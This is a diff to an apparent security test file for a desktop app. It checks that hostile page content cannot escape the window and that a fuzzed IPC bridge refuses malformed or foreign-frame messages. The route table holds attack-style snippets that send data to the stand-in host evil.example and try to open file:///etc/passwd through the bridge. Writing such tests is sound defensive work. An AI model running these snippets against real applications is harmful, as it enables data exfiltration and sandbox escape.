@@ -1,7 +1,13 @@
 /** Ways out of the window of the desktop program, each tried from inside the page as hostile content would (T3). */
+import { createRandom } from '../../src/server/demo/random.ts'
+import { AGREED, spoiled } from '../support/windowSpeech.ts'
 import { expect, isStandIn, test } from './support/desktop.ts'
 
 const EVIL = 'https://evil.example'
+
+const SEED = 20_261
+/** `npm run test:faults -- T4` has a million in all; here the handlers behind it are those of the program. */
+const CASES_OF_ONE = 150
 
 /** What a page that got out of hand could run. */
 const ROUTES: Readonly<Record<string, string>> = {
@@ -37,8 +43,9 @@ const ROUTES: Readonly<Record<string, string>> = {
   'a beacon': `navigator.sendBeacon('${EVIL}/23')`,
   'a socket': `try { new WebSocket('wss://evil.example/24') } catch {}`,
   'a worker of its own': `try { new Worker(URL.createObjectURL(new Blob(['fetch("${EVIL}/25")']))) } catch {}`,
-  'the bridge, with a bad address': `foyer.openLink('file:///etc/passwd')`,
-  'the bridge, with no address': `foyer.openLink({ toString: () => '${EVIL}' }).catch(() => 0)`,
+  'the bridge, with a bad address': `foyer.ask('link.open', 'file:///etc/passwd')`,
+  'the bridge, with no address': `foyer.ask('link.open', { toString: () => '${EVIL}' }).catch(() => 0)`,
+  'the bridge, with a name of its own': `foyer.ask('shell.openExternal', '${EVIL}').catch(() => 0)`,
 }
 
 const HELPERS = `
@@ -49,7 +56,7 @@ const HELPERS = `
 
 test.skip(!isStandIn, 'what a page asks for is seen by the stand-in only')
 
-test('hostile content finds no way out of the window: 34 routes, a dropped file and every permission', async ({
+test('hostile content finds no way out of the window: 35 routes, a dropped file and every permission', async ({
   desktop,
 }) => {
   const program = desktop()
@@ -163,34 +170,70 @@ test('hostile content finds no way out of the window: 34 routes, a dropped file 
   })
 })
 
-test('a request is answered only to the top frame of a page of ours, and only in the agreed shape', async ({
+test('T4 a page is given three functions, and nothing is heard of it but what is agreed and comes from its top frame', async ({
   desktop,
 }) => {
   const program = desktop()
   await program.page()
-  const { refused, answered } = await program.evaluate(async ({ standIn, BrowserWindow }) => {
-    const sender = BrowserWindow.getAllWindows()[0]?.webContents
-    const ask = async (senderFrame: unknown, args: unknown[]) =>
-      standIn?.invoke({ sender, senderFrame } as never, 'link.open', args)
-    const page = { url: 'app://foyer/index.html', parent: null }
-    const address = 'https://example.org/'
-    return {
-      refused: await Promise.all([
-        ask(null, [address]),
-        ask({ url: 'https://evil.example/', parent: null }, [address]),
-        ask({ url: 'app://foyer/index.html', parent: {} }, [address]),
-        ask({ url: 'app://foyer.example/index.html', parent: null }, [address]),
-        ask({ url: 'app://foyer/assets/x.js', parent: null }, [address]),
-        ask(page, []),
-        ask(page, [1]),
-        ask(page, [null]),
-        ask(page, [{ toString: () => address }]),
-        ask(page, [address, 'more']),
-        ask(page, ['a'.repeat(5_000)]),
-      ]),
-      answered: await ask(page, [address]),
-    }
+  const given = await program.evaluate(async ({ BrowserWindow, standIn }) => ({
+    bridge: await BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(
+      'Object.entries(foyer).map(([name, value]) => `${name}: ${typeof value}`)',
+    ),
+    electron: await BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(
+      "['require', 'process', 'ipcRenderer', 'electron', 'module'].filter((name) => name in window)",
+    ),
+    channels: standIn?.channels(),
+  }))
+  expect(given).toEqual({
+    bridge: ['platform: string', 'watch: function', 'tell: function', 'ask: function'],
+    electron: [],
+    channels: ['shell.ask', 'shell.tell'],
   })
-  for (const answer of refused) expect(answer?.error).toContain('refused')
-  expect(answered).toEqual({ value: true, error: null })
+
+  const random = createRandom(SEED)
+  const hostile = AGREED.flatMap((speech) =>
+    Array.from({ length: CASES_OF_ONE }, () => spoiled(random, speech)),
+  )
+  const heard = await program.evaluate(
+    async ({ standIn, BrowserWindow }, { agreed, spoiled: bad }) => {
+      const sender = BrowserWindow.getAllWindows()[0]?.webContents
+      const say = async (senderFrame: unknown, { channel, said }: (typeof agreed)[number]) =>
+        standIn?.hear({ sender, senderFrame } as never, channel, [...said])
+      const page = { url: 'app://foyer/index.html', parent: null }
+      const strangers = [
+        null,
+        { url: 'https://evil.example/', parent: null },
+        { url: 'app://foyer/index.html', parent: {} },
+        { url: 'app://foyer.example/index.html', parent: null },
+        { url: 'app://foyer/assets/x.js', parent: null },
+      ]
+      const before = standIn?.done.length
+      const answers: (string | null | undefined)[] = []
+      for (const speech of bad) answers.push((await say(page, speech))?.error)
+      for (const stranger of strangers)
+        for (const speech of agreed) answers.push((await say(stranger, speech))?.error)
+      return {
+        refused: answers.filter((error) => error?.endsWith('refused')).length,
+        unheard: answers.filter((error) => error === null).length,
+        others: answers.filter((error) => error !== null && error?.endsWith('refused') !== true),
+        done: standIn?.done.slice(before),
+        answered: await say(page, {
+          name: '',
+          channel: 'shell.ask',
+          said: ['link.open', 'https://example.org/'],
+        }),
+      }
+    },
+    { agreed: AGREED, spoiled: hostile },
+  )
+  const ofKind = (channel: string): number => AGREED.filter((speech) => speech.channel === channel).length
+  expect(heard).toEqual({
+    refused: ofKind('shell.ask') * (CASES_OF_ONE + 5),
+    unheard: ofKind('shell.tell') * (CASES_OF_ONE + 5),
+    others: [],
+    done: [],
+    answered: { value: true, error: null },
+  })
+  // The page goes on as before.
+  await expect((await program.page()).getByLabel('Password')).toBeVisible()
 })
